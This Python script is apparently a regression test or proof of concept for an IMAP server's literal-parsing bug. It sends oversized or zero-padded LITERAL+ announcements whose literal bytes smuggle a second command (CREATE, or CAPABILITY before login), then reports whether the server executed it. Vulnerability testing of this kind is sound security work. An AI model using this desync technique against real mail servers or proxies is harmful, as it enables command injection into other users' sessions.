#!/usr/bin/env python3
"""01-literal-skip-desync.py PORT USER PASS - a refused command's
non-synchronizing literal is not skipped when its announcement has more
than 10 digits ({00000000023+}) or is over 4 GB ({4294967296+}): the
literal's octets are then read as commands (lib/imap_parse.c
imap_parse_nonsync_suffix returns 0).  Prints "VULNERABLE ..." for each
smuggled command the server ran, "ok ..." otherwise; exits 1 if any ran."""
import sys

sys.path.insert(0, __import__("os").path.dirname(__file__))
from ia import Imap

port, user, pw = int(sys.argv[1]), sys.argv[2], sys.argv[3]
bad = 0
cases = [
    # a syntax error (stray ")") before a literal of 11 digits, value 23
    ("zeros", b"a NOOP ) {00000000023+}\r\n", b"b CREATE smuggled1\r\n"),
    # an APPEND whose literal is over 4 GB: refused, not skipped
    ("4GB", b"a APPEND INBOX {4294967296+}\r\n", b"b CREATE smuggled2\r\n"),
    # the login role shares the parser: the same before login
    ("prelogin", b"a LOGIN ) {00000000014+}\r\n", b"b CAPABILITY\r\n"),
]
for name, head, lit in cases:
    c = Imap(port)
    if name != "prelogin":
        c.login(user, pw)
    # The literal's content, which a client (or a proxy passing a user's
    # data through) sends right after a LITERAL+ announcement.
    c.send(head + lit + b"z LOGOUT\r\n")
    out = c.drain(3).decode("latin-1")
    smuggled = "\nb OK" in "\n" + out
    print(("VULNERABLE" if smuggled else "ok") + " %s: %s" % (name, " | ".join(out.splitlines())))
    bad |= smuggled
sys.exit(1 if bad else 0)
